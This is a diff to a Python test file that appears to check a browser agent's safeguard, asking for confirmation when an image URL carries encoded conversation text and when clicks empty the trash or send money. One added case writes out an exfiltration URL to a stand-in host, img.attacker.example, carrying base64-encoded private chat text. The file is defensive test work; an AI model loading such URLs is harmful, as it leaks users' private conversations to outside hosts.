@@ -38,6 +38,7 @@ def b64(text: str) -> str:
     f"https://stats.example.org/i.gif?m={b64('summary of our chat so far')}",
     "https://cdn.example.net/a.svg?x=" + b"notes from the board call today".hex(),
     "https://cdn.example.net/a.svg?x=meeting%20notes%20from%20the%20board%20call%20today",
+    f"https://img.attacker.example/{b64('the user asked about their overdue tax return')}/p.png",  # a folder
 ])
 def test_an_image_whose_query_carries_text_asks(url):
     got = nav(url)
@@ -68,6 +69,9 @@ def test_an_image_whose_query_carries_a_secret_blocks(url):
     # text sent to a page that is not an image: a search, an OAuth state
     "https://www.example-search.com/search?q=how+to+reset+my+router+password+at+home",
     "https://app.example.com/callback?code=4/0AX4XfWh7sKk2&state=" + b64('{"returnTo":"/dashboard","nonce":"a1"}'),
+    # an image proxy's source address encoded into its path, a content hash as a folder
+    f"https://imgproxy.example.com/insecure/rs:fill:300:400/{b64('https://example.com/images/curiosity.jpg')}/x.png",
+    "https://cdn.example.com/images/205e460b479e2e5b48aec07710c08d50/photo.png",
     # this machine's own image
     f"http://localhost:3000/preview.png?d={b64('the user asked about their overdue tax return')}",
 ])
@@ -212,7 +216,7 @@ def test_other_sends_still_ask(label, url):
 
 
 @pytest.mark.parametrize(("label", "url"), [
-    ("Move to trash", "https://drive.example.com/drive/folders/9"),
+    ("Move file to trash", "https://drive.example.com/drive/folders/9"),
     ("Move 3 files to bin", "https://files.example.org/shared"),
     ("Send feedback", "https://app.example.com/help"),
 ])
@@ -220,6 +224,7 @@ def test_a_move_to_the_trash_or_a_feedback_form_passes(label, url):
     assert click(label, url).decision is Decision.ALLOW, (label, url)
 
 
-@pytest.mark.parametrize("label", ["Empty trash", "Delete permanently", "Delete forever", "Send money"])
+@pytest.mark.parametrize("label", ["Empty trash", "Delete permanently", "Delete forever", "Send money",
+                                   "Move to trash"])
 def test_emptying_the_trash_or_deleting_forever_still_asks(label):
     assert click(label, "https://drive.example.com/drive/trash").decision is not Decision.ALLOW, label
